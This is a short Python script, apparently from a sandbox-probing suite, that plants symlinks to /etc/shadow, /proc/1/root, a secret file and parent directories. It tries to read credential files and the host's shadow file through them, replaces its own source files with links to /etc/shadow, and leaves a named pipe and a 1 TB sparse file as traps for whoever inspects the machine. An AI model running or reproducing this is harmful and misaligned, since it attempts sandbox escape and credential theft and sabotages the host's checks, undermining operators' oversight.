"""Puts links where somebody might follow them."""
from evidence import *

places = {
    "/etc/shadow": "shadow", "/proc/1/root": "host", HOME + "/secret.txt": "secret", "/proc/self/fd/0": "input",
    "../../../../..": "above", "/root": "root",
}
for target, name in places.items():
    path = f"/home/user/{name}"
    os.symlink(target, path)
    held(f"a link to {target}", os.path.realpath(path))
attempt("read the secret through it", lambda: read("/home/user/secret"))
attempt("read shadow through it", lambda: read("/home/user/shadow"))
attempt("read through init's root", lambda: read("/home/user/host/etc/shadow"))
for name in ["main.py", "evidence.py", "links.py"]:
    if os.path.exists(name):
        os.remove(name)
        os.symlink("/etc/shadow", name)
os.mkfifo("/home/user/pipe")
with open("/home/user/sparse", "wb") as sparse:
    sparse.truncate(1 << 40)
held("odd files left behind", "the host looks whether they do harm")
